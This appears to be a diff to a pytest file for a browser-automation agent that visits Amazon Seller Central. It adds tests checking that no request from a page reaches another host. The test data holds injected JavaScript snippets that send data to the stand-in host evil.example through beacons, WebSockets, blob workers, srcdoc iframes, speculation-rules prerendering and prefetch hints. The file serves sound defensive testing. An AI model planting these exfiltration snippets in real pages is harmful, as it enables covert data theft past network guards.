@@ -19,11 +19,14 @@ from agent.visits.browser_pool import BrowserPool, browser_options
 from fixtures.stand_in.generate import one_account
 from fixtures.stand_in.site.certificate import make_identity
 from fixtures.stand_in.world import StandIn
-from flows.browser.launch import BrowserOptions, open_browser, process_of
+from flows.browser.launch import BrowserOptions, is_safe_endpoint, open_browser, process_of
 from flows.errors import BrowserMissingError, ForeignHostError
 from flows.visit.open_visit import open_visit
 from tests.support.rehearsal import rehearsing
 from tests.support.servers.remote_browser import KINDS, remote_browser
+
+# A line holds one page.
+# ruff: noqa: E501
 
 HOST, EVIL = "https://sellercentral.amazon.com", "https://evil.example"
 
@@ -77,13 +80,26 @@ async def test_an_invitation_is_accepted_in_it(kind: str, unused_tcp_port: int, 
 
 LEAKS = {
     "a redirect": "<script>location='/away'</script>",
-    "a redirected fetch": "<script>fetch('/away',{method:'POST',mode:'no-cors',body:'1'})</script>",
     "a redirected form": "<form id=f method=post action='/away'><input name=p value=1></form><script>f.submit()</script>",
     "a form": f"<form id=f method=post action='{EVIL}/form'><input name=p value=1></form><script>f.submit()</script>",
     "a frame": f"<iframe src='{EVIL}/frame'></iframe>",
     "a redirected frame": "<iframe src='/away'></iframe>",
-    "a beacon": f"<script>navigator.sendBeacon('{EVIL}/beacon','1')</script>",
 }
+WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`])))"
+NOISE = {
+    "a redirected fetch": "fetch('/away',{method:'POST',mode:'no-cors',body:'1'})",
+    "a beacon": f"navigator.sendBeacon('{EVIL}/beacon','1')",
+    "a socket": "new WebSocket('wss://evil.example/ws')",
+    "a socket of a frame": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<script>new WebSocket('wss://evil.example/frame')</script>`}))",
+    "a socket of an empty frame": "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket('wss://evil.example/empty')",
+    "a worker's socket": WORKER.format("new WebSocket('wss://evil.example/worker')"),
+    "a worker's request": WORKER.format(f"fetch('{EVIL}/worker',{{method:'POST',mode:'no-cors',body:'1'}})"),
+    "a module worker's socket": WORKER.format("new WebSocket('wss://evil.example/module')").replace("])))", "])), {type: 'module'})"),
+    "a page made beforehand": f"document.head.append(Object.assign(document.createElement('script'), {{type: 'speculationrules', text: JSON.stringify({{prerender: [{{source: 'list', urls: ['{EVIL}/prerender'], eagerness: 'immediate'}}]}})}}))",
+    "our page made beforehand": "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', text: JSON.stringify({prerender: [{source: 'list', urls: ['/made', '/away'], eagerness: 'immediate'}]})}))",
+    "a page fetched beforehand": f"document.head.append(Object.assign(document.createElement('script'), {{type: 'speculationrules', text: JSON.stringify({{prefetch: [{{source: 'list', urls: ['{EVIL}/prefetch'], eagerness: 'immediate'}}]}})}}))",
+    "a link's hint": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{EVIL}/hint'}}))",
+}  # fmt: skip
 
 
 @dataclass(slots=True)
@@ -131,3 +147,32 @@ async def test_nothing_goes_to_another_host_from_it(
                     with pytest.raises(ForeignHostError):
                         visit.guard.check()
                 assert [line for line in served.asked if "evil.example" in line] == [], name
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_what_a_page_does_in_the_background_reaches_no_other_host_from_it_and_the_visit_goes_on(
+    kind: str, site: tuple[Site, list[str]], unused_tcp_port: int, tmp_path: Path
+) -> None:
+    served, given = site
+    async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
+        options = BrowserOptions(endpoint=remote.endpoint)
+        async with open_browser(options) as browser:
+            for name, run in NOISE.items():
+                served.page = f"<html><head></head><body><script>try {{ {run} }} catch (e) {{}}</script></body></html>"
+                async with open_visit(browser, options=options) as visit:
+                    await visit.page.goto(f"{HOST}/noise")
+                    await visit.page.evaluate("() => new Promise(done => setTimeout(done, 500))")
+                    visit.guard.check()
+                assert [line for line in served.asked if "evil.example" in line] == [], name
+
+
+@pytest.mark.parametrize(
+    "endpoint", ["http://192.0.2.1:9222", "ws://browser.example:3000/x", "http://[2001:db8::1]:9222"]
+)
+async def test_passwords_never_go_to_it_over_plain_text(endpoint: str) -> None:
+    with pytest.raises(BrowserMissingError, match="wss:// or https://"):
+        async with open_browser(BrowserOptions(endpoint=endpoint)):
+            pass
+    assert is_safe_endpoint("ws://localhost:3000/x")
+    assert is_safe_endpoint("http://[::1]:9222")
+    assert is_safe_endpoint("wss://browser.example/x")
